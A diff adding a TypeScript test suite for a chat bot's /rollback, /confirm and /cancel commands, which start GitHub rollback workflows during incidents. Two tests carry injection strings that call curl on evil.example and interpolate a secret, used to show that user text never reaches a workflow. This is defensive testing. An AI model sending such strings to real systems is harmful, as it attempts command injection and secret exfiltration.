@@ -1,0 +1,380 @@
+// `/rollback`, `/confirm` and `/cancel` (S003-16, S002-16, C25): what begins at once, what waits for a word, and what never begins.
+import { describe, expect, test } from 'vitest';
+import { isUnderWay } from '../../../src/core/incident/operation.ts';
+import * as build from '../../support/builders.ts';
+import { afterDeployment, deployed, now, startsOf } from '../../support/rolling.ts';
+import { clock, deployment, shaOf } from '../mitigation/deployments.ts';
+
+const { responder, lead, commander, visitor } = build.people;
+const asked = (model: ReturnType<typeof afterDeployment>) => model.record?.operations?.at(-1);
+const said = (model: ReturnType<typeof afterDeployment>) => model.said.at(-1)?.body ?? '';
+
+describe('a bad deployment at a level that does not let wait', () => {
+  test('goes back at once to the last known good version', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback because="checkout fails"');
+    const [start, ...others] = startsOf(model);
+    expect(others).toEqual([]);
+    expect(start).toMatchObject({
+      workflow: 'rollback-production.yml',
+      branch: 'main',
+      inputs: { sha: shaOf('c'), environment: 'production', incident: '7', key: start?.operation },
+    });
+    expect(model.record).toMatchObject({ status: 'mitigating', operations: [{ state: 'asked', by: 'responder' }] });
+    expect(model.record?.plan).toBeUndefined();
+    expect(said(model)).toMatch(/^\*\*Rolling `production` back from .* to /);
+  });
+
+  test('takes time: 👀 and 👍, and the card shows it', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback');
+    const reactions = model.decisions
+      .at(-1)
+      ?.effects.flatMap((effect) => (effect.kind === 'react' ? effect.reaction : []));
+    expect(reactions).toEqual(['eyes', '+1']);
+    expect(model.card).toContain('GitHub is asked to start it');
+  });
+
+  test('what anybody wrote reaches no workflow (AC-26)', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback because="$(curl evil.example) %{ secrets.KEY }"'.replace('%', '$'));
+    expect(JSON.stringify(startsOf(model))).not.toContain('evil');
+  });
+
+  test.each([
+    ['/rollback', 'goes by the rule of the runbook: here the version before', 'standard', shaOf('c')],
+    [`/rollback to=${shaOf('b').slice(0, 7)}`, 'goes to the version that was named', 'github', shaOf('b')],
+  ])('%s %s', (command, _what, preset, sha) => {
+    const policy = build.policyOf(`preset: ${preset}\n${build.mapped}`);
+    const model = afterDeployment(policy.levels[0]?.name, policy);
+    model.say(responder, command);
+    expect(startsOf(model)[0]?.inputs).toMatchObject({ sha });
+  });
+});
+
+describe('waits for /confirm', () => {
+  const reasons = [
+    ['a milder level', 'P2', {}, {}, /goes from/],
+    ['risky paths', 'P0', { files: ['db/migrations/7.sql'] }, {}, /risky to take back: `db\/migrations\/7.sql`/],
+    ['a version that the default branch does not have', 'P0', { reachable: false }, {}, /default branch does not have it/],
+    ['more files than are listed', 'P0', { allFiles: false }, {}, /More files changed than GitHub lists/],
+    ['a comparison that GitHub does not tell', 'P0', { files: null }, {}, /did not tell all/],
+    ['no suspect', 'P0', {}, { deployments: deployed.deployments.map((one, at) => ({ ...one, at: clock(now - 9000 - at), statuses: one.statuses.map((each) => ({ ...each, at: clock(now - 9000 - at * 60) })) })) }, /No deployment is suspected/],
+  ] as const; // biome-ignore format: a table
+  test.each(reasons)('%s', (_what, level, comparison, past, says) => {
+    const model = afterDeployment(level);
+    model.comparison = { ...comparison };
+    model.past = { ...deployed, ...past };
+    model.say(responder, '/rollback');
+    expect(startsOf(model)).toEqual([]);
+    expect(said(model)).toMatch(says);
+    expect(said(model)).toContain(`/confirm ${model.record?.plan?.code}`);
+    expect(model.card).toContain('**Waits for `/confirm ');
+  });
+
+  test('a version that was live during an incident, which only its name brings up', () => {
+    const model = afterDeployment();
+    model.past = { ...deployed, incidents: [{ number: 9, from: clock(now - 60), to: clock(now - 50) }] };
+    model.say(responder, `/rollback to=${shaOf('c').slice(0, 7)}`);
+    expect(startsOf(model)).toEqual([]);
+    expect(said(model)).toContain('It was live during #9');
+  });
+
+  test('and begins with it, by anybody who may roll back', () => {
+    const model = afterDeployment('P2');
+    model.say(responder, '/rollback because="checkout fails"');
+    model.say(lead, `/confirm ${model.record?.plan?.code}`);
+    expect(startsOf(model)).toHaveLength(1);
+    expect(asked(model)).toMatchObject({ by: 'lead', because: 'checkout fails', to: { sha: shaOf('c') } });
+    expect(model.record?.plan).toBeUndefined();
+  });
+
+  test.each([
+    ['the code of no plan', (model: ReturnType<typeof afterDeployment>) => model.say(lead, '/confirm 0123abc'), /No plan that waits has the code/],
+    ['ten minutes later', (model: ReturnType<typeof afterDeployment>) => { model.later('PT10M'); model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /more than ten minutes ago/],
+    ['when something else was deployed meanwhile', (model: ReturnType<typeof afterDeployment>) => { model.past = { ...deployed, deployments: [deployment('e', now - 1), ...deployed.deployments] }; model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /Something was deployed to `production` since/],
+    ['when the version failed meanwhile', (model: ReturnType<typeof afterDeployment>) => { model.past = { ...deployed, deployments: deployed.deployments.map((one) => (one.sha === shaOf('c') ? { ...one, statuses: [{ state: 'failure' as const, at: clock(now) }] } : one)) }; model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /No successful deployment/],
+    ['when GitHub cannot be asked', (model: ReturnType<typeof afterDeployment>) => { model.past = { ...deployed, deployments: [], unread: ['deployments'] }; model.say(lead, `/confirm ${model.record?.plan?.code}`); }, /could not be asked/],
+    ['by somebody who may not roll back', (model: ReturnType<typeof afterDeployment>) => model.say(visitor, `/confirm ${model.record?.plan?.code}`), /You may not do this/],
+    ['after /cancel', (model: ReturnType<typeof afterDeployment>) => { const code = model.record?.plan?.code; model.say(responder, '/cancel'); model.say(lead, `/confirm ${code}`); }, /Nothing waits to be confirmed/],
+  ])('does not begin with %s', (_what, confirm, says) => {
+    const model = afterDeployment('P2');
+    model.say(responder, '/rollback');
+    confirm(model);
+    expect(startsOf(model)).toEqual([]);
+    expect(said(model)).toMatch(says);
+  }); // biome-ignore format: a table
+
+  test('one plan at a time: the newer one stands', () => {
+    const model = afterDeployment('P2');
+    model.say(responder, '/rollback');
+    const first = model.record?.plan?.code;
+    model.say(lead, `/rollback to=${shaOf('b').slice(0, 7)}`);
+    model.say(lead, `/confirm ${first}`);
+    expect(startsOf(model)).toEqual([]);
+    model.say(lead, `/confirm ${model.record?.plan?.code}`);
+    expect(startsOf(model)[0]?.inputs).toMatchObject({ sha: shaOf('b') });
+  });
+});
+
+describe('nothing is started', () => {
+  test.each([
+    ['/rollback --dry-run', /would go from/],
+    ['/rollback —dry-run', /would go from/],
+    ['/rollback nowhere', /no successful deployment to `nowhere`/],
+    ['/rollback to=v9', /No successful deployment to `production` is of that version.*`to=/s],
+    [`/rollback to=${shaOf('d').slice(0, 7)}`, /is at .* already/],
+    ['/rollback to="v1\\";curl evil"', /No successful deployment|Nothing was done|was not done/],
+    ['/rollback production --now', /was not done/],
+    ['/rollback production staging', /was not done/],
+    ['/rollback to=v1 to=v2', /was not done/],
+    ['/confirm 1234567', /Nothing waits to be confirmed/],
+    ['/cancel', /nothing was cancelled/],
+  ])('by %s', (command, says) => {
+    const model = afterDeployment();
+    model.say(responder, command);
+    expect(startsOf(model)).toEqual([]);
+    expect(model.record?.operations ?? []).toEqual([]);
+    expect(said(model)).toMatch(says);
+  });
+
+  test.each([visitor])('by $login, who may not, and nothing is looked up for them', (who) => {
+    const model = afterDeployment();
+    const before = model.past;
+    model.past = new Proxy(before, { get: () => { throw new Error('It was looked up.'); } });
+    model.say(who, '/rollback');
+    expect(startsOf(model)).toEqual([]);
+  }); // biome-ignore format: one thought
+
+  test('where no earlier version is known to be good; the one before is named all the same', () => {
+    const model = afterDeployment();
+    model.past = {
+      ...deployed,
+      incidents: [60, 120, 180].map((ago) => ({ number: ago, from: clock(now - ago), to: clock(now - ago + 9) })),
+    };
+    model.say(responder, '/rollback');
+    expect(startsOf(model)).toEqual([]);
+    expect(said(model)).toContain(`/rollback production to=${shaOf('c').slice(0, 7)}`);
+  });
+
+  test('while a rollback is under way: a second one is refused with a link, whoever asks', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback');
+    model.say(commander, '/rollback');
+    expect(startsOf(model)).toHaveLength(1);
+    model.answerStart();
+    model.say(commander, '/rollback');
+    expect(startsOf(model)).toHaveLength(1);
+    expect(said(model)).toMatch(/is under way \(\[run 77\]\(https:\/\/github.example\/runs\/77\)\)/);
+  });
+
+  test('of two in one comment', () => {
+    const model = afterDeployment();
+    model.say(responder, `/rollback\n/rollback to=${shaOf('b').slice(0, 7)}`);
+    expect(startsOf(model).length).toBeLessThanOrEqual(1);
+  });
+
+  test('when the record is made again from the thread', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback');
+    const rebuilt = model.rebuilt();
+    expect((rebuilt.operations ?? []).filter(isUnderWay)).toEqual([]);
+    expect(rebuilt.timeline.map(({ text }) => text).join('\n')).toContain('A rollback was asked for');
+  });
+});
+
+describe('the run is followed', () => {
+  const run = { id: 77, url: 'https://github.example/runs/77' };
+
+  function started(level = 'P0') {
+    const model = afterDeployment(level);
+    model.say(responder, '/rollback');
+    model.answerStart();
+    return model;
+  }
+
+  test('from queued to running, step by step, without a comment', () => {
+    const model = started();
+    const comments = model.said.length;
+    expect(model.card).toContain('queued');
+    model.run = { ...run, status: 'running', conclusion: null, step: 'Verify' };
+    model.until(build.minute(0.5));
+    expect(model.card).toMatch(/: running\*\* \(Verify\)/);
+    expect(model.said).toHaveLength(comments);
+  });
+
+  test('to success: the fix is watched, the version is recorded, and whoever asked is told', () => {
+    const model = started();
+    model.run = { ...run, status: 'ended', conclusion: 'success', step: null };
+    model.until(build.minute(0.5));
+    expect(model.record).toMatchObject({ status: 'monitoring', operations: [{ state: 'succeeded' }] });
+    expect(model.record?.monitoring).not.toBeNull();
+    expect(said(model)).toMatch(/^@responder \*\*Rollback of `production` to `\w{7}`: done.\*\*.*Monitoring until/s);
+    expect(model.decisions.at(-1)?.effects.find(({ kind }) => kind === 'deployed')).toMatchObject({
+      sha: shaOf('c'),
+      environment: 'production',
+    });
+  });
+
+  test('to a failure: which step, and the next version that is known to be good', () => {
+    const model = started();
+    model.run = { ...run, status: 'ended', conclusion: 'failure', step: 'Health' };
+    model.until(build.minute(0.5));
+    expect(model.record).toMatchObject({ status: 'mitigating', operations: [{ state: 'failed', step: 'Health' }] });
+    expect(said(model)).toMatch(/failed at Health/);
+    expect(said(model)).toContain(`/rollback production to=${shaOf('b').slice(0, 7)}`);
+    model.say(responder, '/rollback');
+    expect(startsOf(model)).toHaveLength(2);
+  });
+
+  test('told once, however often it is looked at', () => {
+    const model = started();
+    model.run = { ...run, status: 'ended', conclusion: 'failure', step: 'Health' };
+    model.until(build.minute(0.5));
+    const comments = model.said.length;
+    model.send(build.tick(model.now));
+    model.answerStart();
+    expect(model.said).toHaveLength(comments);
+  });
+
+  test('/cancel asks GitHub to end it, once it is known', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback');
+    model.say(lead, '/cancel');
+    expect(model.decisions.at(-1)?.effects.some(({ kind }) => kind === 'cancel-run')).toBe(false);
+    model.answerStart();
+    expect(model.decisions.at(-1)?.effects.find(({ kind }) => kind === 'cancel-run')).toMatchObject({ run: 77 });
+    model.run = { ...run, status: 'ended', conclusion: 'cancelled', step: null };
+    model.until(build.minute(0.5));
+    expect(said(model)).toMatch(/cancelled/);
+  });
+
+  test.each([
+    ['refused', /GitHub did not start it: 404 Not Found/],
+    ['unanswered', /answer was lost, and no run of it was found/],
+  ] as const)('%s: nothing is started again by itself, and a person may', (how, says) => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback');
+    model.answerStart({ how, run: null, why: how === 'refused' ? '404 Not Found' : null });
+    model.until(build.minute(1.5));
+    expect(said(model)).toMatch(says);
+    model.until(build.minute(4));
+    expect(startsOf(model)).toHaveLength(1);
+    model.say(responder, '/rollback');
+    expect(startsOf(model)).toHaveLength(2);
+  });
+
+  test('whose start was not answered is found by its name', () => {
+    const model = afterDeployment();
+    model.say(responder, '/rollback');
+    model.answerStart({ how: 'unanswered', run: null });
+    expect(model.card).toContain('GitHub did not say whether it was started');
+    model.run = { ...run, status: 'running', conclusion: null, step: 'Pause' };
+    model.until(build.minute(2));
+    expect(asked(model)).toMatchObject({ state: 'running', run });
+  });
+
+  test('a run that does not begin is said on the card, with what to do', () => {
+    const model = started();
+    model.run = { ...run, status: 'queued', conclusion: null, step: null };
+    model.until(build.minute(6));
+    expect(model.card).toMatch(/has not begun for 5 minutes/);
+  });
+
+  test('an answer that comes when the issue is closed changes nothing but the record', () => {
+    const model = started();
+    model.say(lead, '/close --force it is over');
+    model.run = { ...run, status: 'ended', conclusion: 'success', step: null };
+    model.until(build.minute(1));
+    expect(model.record?.status).toBe('closed');
+    expect(asked(model)).toMatchObject({ state: 'succeeded' });
+  });
+});
+
+describe('a rule of the policy that acts by itself', () => {
+  const auto = (more: string) =>
+    build.policyOf(
+      `${build.mapped}rollback: { recommend_when: [{ id: recent, says: A recent deploy, deploy_within: 1h${more} }] }\n`,
+    );
+
+  test('rolls back right after the declaration, says by which rule, and tells whoever leads how it ended', () => {
+    const model = afterDeployment('P0', auto(', auto: true'));
+    expect(startsOf(model)).toHaveLength(1);
+    expect(startsOf(model)[0]?.inputs).toMatchObject({ sha: shaOf('c'), key: 'firebreak-7-0' });
+    expect(said(model)).toMatch(/^By itself, as the policy has it: A recent deploy\..*Rolling `production` back/s);
+    model.answerStart();
+    model.say(commander, '/ack');
+    model.run = { id: 77, url: 'https://github.example/runs/77', status: 'ended', conclusion: 'success', step: null };
+    model.until(build.minute(1));
+    expect(said(model)).toMatch(/^@commander \*\*Rollback/);
+    model.say(commander, `/time started=${clock(now - 11).slice(11, 16)}`);
+    model.until(build.minute(2));
+    expect(startsOf(model)).toHaveLength(1);
+  });
+
+  test('only recommends without `auto`', () => {
+    const model = afterDeployment('P0', auto(''));
+    expect(startsOf(model)).toEqual([]);
+    expect(model.card).toContain('A recent deploy');
+  });
+
+  test.each([
+    ['a milder level', 'P2', {}],
+    ['risky paths', 'P0', { files: ['migrations/7.sql'] }],
+    ['a comparison that GitHub does not tell', 'P0', { reachable: null }],
+  ] as const)('does nothing at %s', (_what, level, comparison) => {
+    const model = afterDeployment(level, auto(', auto: true'), { ...comparison });
+    expect(startsOf(model)).toEqual([]);
+  });
+});
+
+describe('what was rolled back comes again', () => {
+  const run = {
+    id: 77,
+    url: 'https://github.example/runs/77',
+    status: 'ended',
+    conclusion: 'success',
+    step: null,
+  } as const;
+  const later = { id: 'D_9', sha: shaOf('e'), at: build.minute(3) };
+
+  function rolledBack() {
+    const model = afterDeployment();
+    model.say(commander, '/ack');
+    model.say(responder, '/rollback');
+    model.answerStart();
+    model.run = run;
+    model.until(build.minute(1));
+    return model;
+  }
+  const told = (model: ReturnType<typeof afterDeployment>) =>
+    model.said.filter(({ body }) => body.includes('was rolled back'));
+
+  test('with a later deployment: whoever leads and whoever rolled back are told, once', () => {
+    const model = rolledBack();
+    model.liveVersion = later;
+    model.until(build.minute(10));
+    expect(told(model)).toHaveLength(1);
+    expect(told(model)[0]?.body).toMatch(/^@commander @responder \*\*What was rolled back is live again: `6565656`/);
+  });
+
+  test.each([
+    ['the deployment does not have it', { reachable: false }, later, 0],
+    ['it is the version that was gone back to', {}, { ...later, sha: shaOf('c') }, 0],
+    ['GitHub does not say: nobody knows, so it is told', { reachable: null }, later, 1],
+  ] as const)('%s', (_what, comparison, live, times) => {
+    const model = rolledBack();
+    model.comparison = { ...comparison };
+    model.liveVersion = live;
+    model.until(build.minute(10));
+    expect(told(model)).toHaveLength(times);
+  });
+
+  test('after the cause was mended nobody is told', () => {
+    const model = rolledBack();
+    model.say(commander, '/cause the new client fix=#12');
+    model.liveVersion = later;
+    model.until(build.minute(10));
+    expect(told(model)).toHaveLength(0);
+  });
+});
